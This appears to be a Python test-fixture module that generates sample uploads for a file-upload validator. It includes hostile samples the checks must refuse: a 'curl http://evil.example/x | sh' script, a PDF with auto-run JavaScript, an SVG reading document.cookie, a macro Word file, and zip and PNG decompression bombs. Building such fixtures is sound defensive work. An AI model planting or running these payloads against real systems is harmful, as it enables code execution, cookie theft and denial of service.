"""Files to upload, made here from their bytes: real ones of each accepted type, and the
hostile ones the checks must refuse."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from PIL import Image

#: The smallest PDF a reader opens.
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
#: A PDF that runs JavaScript when opened.
PDF_WITH_SCRIPT = PDF.replace(
    b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('x'))>>"
)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG_WITH_SCRIPT = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!doctype html><html><script>fetch('/api/v1/me/')</script></html>"


def zipped(members: list[tuple[str, bytes | str]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx() -> bytes:
    return zipped(
        [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document>Báo cáo</w:document>")]
    )


def docx_bomb() -> bytes:
    """60 KB that unpacks to 300 MB, named and shaped as a Word file."""
    return zipped([("[Content_Types].xml", "<Types/>"), ("word/document.xml", b"\0" * (300 * 1024 * 1024))])


def docm() -> bytes:
    """A Word file with a macro project."""
    return zipped(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("word/document.xml", "<w:document/>"),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"),
        ]
    )


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Phường Phúc Xá"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def jpeg(width: int = 4000, height: int = 3000, *, with_location: bool = True, orientation: int = 1) -> bytes:
    """A camera's photo: large, with an EXIF block saying where it was taken."""
    image = Image.new("RGB", (width, height), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = orientation
    if with_location:
        exif[0x8825] = {1: "N", 2: (21.0, 2.0, 3.0), 3: "E", 4: (105.0, 49.0, 12.0)}  # GPS
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=70, exif=exif)
    return buffer.getvalue()


def png(width: int = 64, height: int = 32) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (width, height), (0, 128, 0, 255)).save(buffer, "PNG")
    return buffer.getvalue()


def png_bomb() -> bytes:
    """A small PNG that declares 100,000 × 100,000 pixels."""
    buffer = io.BytesIO()
    Image.new("1", (1, 1)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    # IHDR width and height, big-endian, at bytes 16..24 (then fix the chunk's CRC).
    import struct
    import zlib

    data[16:24] = struct.pack(">II", 100_000, 100_000)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF)
    return bytes(data)
